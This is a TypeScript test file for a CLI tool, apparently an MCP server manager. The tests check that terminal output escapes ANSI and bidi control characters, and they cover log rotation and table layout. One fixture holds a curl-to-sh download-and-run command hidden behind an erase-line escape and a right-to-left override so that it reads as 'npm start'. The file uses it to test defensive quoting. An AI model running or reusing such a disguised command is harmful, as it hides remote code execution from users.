import "../../../../scripts/withoutColour.ts";
// What others wrote, on a terminal: a name or a command must not be able to hide itself or draw over what is around it.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { fileURLToPath } from "node:url";
import { tellHelp } from "../../src/cli/output.ts";
import { drawTable } from "../../src/cli/terminal.ts";
import { writeCommandLine } from "../../src/clients/importServers.ts";

const BIN = fileURLToPath(new URL("../../bin/holdfast.js", import.meta.url));
const home = mkdtempSync(join(tmpdir(), "holdfast-hostile-"));
after(() => rmSync(home, { recursive: true, force: true, maxRetries: 5 }));

const ERASE = "\u001b[2K\r";
const UNSEEN = /[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069]/u;

function holdfast(...args: string[]) {
	const env = { PATH: process.env.PATH, HOME: home, XDG_RUNTIME_DIR: home };
	const { stdout, stderr, status } = spawnSync(process.execPath, [BIN, ...args], { env, cwd: home, encoding: "utf8" });
	return { text: stdout + stderr, status };
}

test("a command is shown so that a terminal shows all of it, and a shell would run just that", () => {
	const entry = {
		kind: "command",
		env: {},
		command: "sh",
		args: ["-c", `curl 'e\\vil' | sh${ERASE}\u202enpm start`],
	} as const;
	const line = writeCommandLine(entry);
	assert.equal(line, "sh -c $'curl \\'e\\\\vil\\' | sh\\x1b[2K\\r\\u202enpm start'");
	const { stdout } = spawnSync("bash", ["-c", `printf %s ${line.slice("sh -c ".length)}`], {
		encoding: "utf8",
		env: { LC_ALL: "C.UTF-8", PATH: process.env.PATH },
	});
	assert.equal(stdout, entry.args[1]);
});

test("names and problems of a repository's file do not reach the terminal as they are", () => {
	const servers = {
		[`a${ERASE}b`]: { command: "x", env: { "K\u001b[31m": "v" } },
		"c\nadded d": { command: `y${ERASE}` },
		[`e${ERASE}`]: {},
	};
	writeFileSync(join(home, ".mcp.json"), JSON.stringify({ mcpServers: servers }));
	for (const args of [
		["import", "--yes"],
		["wrap", "claude-code", "--scope", "project"],
		["doctor", "--port", "0"],
	]) {
		const { text } = holdfast(...args);
		assert.doesNotMatch(text, UNSEEN);
		assert.match(text, /a\\x1b\[2K\\rb/);
		assert.doesNotMatch(text, /^added d/m);
	}
});

test("a fault's detail and what a server last wrote to stderr are plain lines of the log", () => {
	const state = join(home, ".local/state/holdfast");
	mkdirSync(state, { recursive: true });
	const fault = {
		class: "process",
		code: "worker_crashed",
		detail: `died${ERASE}\nfine`,
		retry: "later",
		generation: 1,
	};
	const record = {
		v: 1,
		event: "fault",
		at: Date.UTC(2026, 0),
		generation: 1,
		fault,
		stderr: [`Traceback${ERASE}`, "KeyError"],
	};
	const broken = { ...record, stderr: "KeyError" };
	const lines = [JSON.stringify(record), JSON.stringify(broken), `no${ERASE}record`];
	writeFileSync(join(state, "a.jsonl"), `${lines.join("\n")}\n`);
	const { text } = holdfast("logs", "a");
	assert.doesNotMatch(text, UNSEEN);
	assert.match(text, /died\\x1b\[2K\\r\\nfine\n {4}stderr: Traceback\\x1b\[2K\\r\n {4}stderr: KeyError\n/);
	assert.equal(text.match(/not a record/g)?.length, 2, text);
});

test("a log that has been begun anew goes on from the files it was renamed to", () => {
	const state = join(home, ".local/state/holdfast");
	mkdirSync(state, { recursive: true });
	const lines = (first: number, last: number) =>
		Array.from({ length: last - first + 1 }, (_, place) => {
			const call = { method: `m${first + place}`, id: "1", latencyMs: 1, attempts: 1, outcome: "ok" };
			return `${JSON.stringify({ v: 1, event: "call", at: 0, generation: 1, ...call })}\n`;
		}).join("");
	writeFileSync(join(state, "turned.jsonl.20260101T000000000Z-7-1"), lines(1, 3));
	writeFileSync(join(state, "turned.jsonl.20260201T000000000Z-7-1"), lines(4, 6));
	writeFileSync(join(state, "turned.jsonl"), lines(7, 8));
	const others = ["turned-too.jsonl", "turned.jsonl.jsonl", "turned.jsonl.jsonl.20260301T000000000Z-7-1"];
	for (const name of others) writeFileSync(join(state, name), lines(9, 9));
	const shown = (...args: string[]) =>
		holdfast("logs", "turned", ...args)
			.text.match(/(?<=ok {2}m)\d/g)
			?.join("");
	assert.equal(shown(), "12345678");
	assert.equal(shown("-n", "4"), "5678");
	assert.equal(shown("-n", "0"), undefined);
});

test("columns stand below one another whatever characters are in them", () => {
	assert.equal(
		drawTable(
			["NAME", "PID"],
			[
				["檔案", "1"],
				["🚀", "22"],
				["e\u0301", "3"],
			],
		),
		"NAME  PID\n檔案  1\n🚀    22\ne\u0301     3",
	);
});

test("on a narrow terminal the last column goes on below itself or its row, and where others have no room a row is a list", (t) => {
	const { isTTY, columns } = process.stdout;
	t.after(() => Object.assign(process.stdout, { isTTY, columns }));
	const shown = (width: number) => {
		Object.assign(process.stdout, { isTTY: true, columns: width });
		process.env.NO_COLOR = "1";
		return drawTable(
			["NAME", "PID", "WHY"],
			[
				["files", "1", "its process ends before it answers; it said: no such file"],
				["web", "22", undefined],
				["none", "3", "none"],
			],
		);
	};
	assert.equal(
		shown(44),
		"NAME   PID  WHY\nfiles  1    its process ends before it\n            answers; it said: no such file\nweb    22   none\nnone   3    none",
	);
	assert.equal(
		shown(40),
		"NAME   PID\nfiles  1\n  its process ends before it answers; it\n  said: no such file\nweb    22\nnone   3\n  none",
	);
	assert.match(shown(9), /^NAME +files\nPID +1\nWHY +its process/);
	assert.equal(shown(100).split("\n").length, 4);
});

test("one long name does not make lists of all rows: it stands above its own", (t) => {
	const { isTTY, columns } = process.stdout;
	t.after(() => Object.assign(process.stdout, { isTTY, columns }));
	process.env.NO_COLOR = "1";
	const shown = (width: number) => {
		Object.assign(process.stdout, { isTTY: true, columns: width });
		return drawTable(
			["NAME", "PID", "STATE", "WHY"],
			[
				["files", "1", "ready", undefined],
				["server-sequential-thinking", "22", "failed", "it did not answer in time"],
			],
		);
	};
	const row = "server-sequential-thinking\n                 22   failed\n  it did not answer in time";
	assert.equal(shown(28), `NAME             PID  STATE\nfiles            1    ready\n${row}`);
	assert.match(shown(24), /^NAME +files\nPID +1\n/);
});

test("help is broken anew where it is too wide, and each option keeps its column", (t) => {
	const { isTTY, columns } = process.stdout;
	let said = "";
	const write = t.mock.method(process.stdout, "write", (text: string) => {
		said += text;
		return true;
	});
	Object.assign(process.stdout, { isTTY: true, columns: 40 });
	tellHelp(
		`Usage: it [--one A]
          [--two B]

Does what it does for those who do ask it
to do so, and more.

  --one A  a word that is long enough to
           be broken
  --two B  another`,
	);
	write.mock.restore();
	Object.assign(process.stdout, { isTTY, columns });
	assert.equal(
		said,
		`Usage: it [--one A]
          [--two B]

Does what it does for those who do ask
it to do so, and more.

  --one A  a word that is long enough to
           be broken
  --two B  another
`,
	);
});
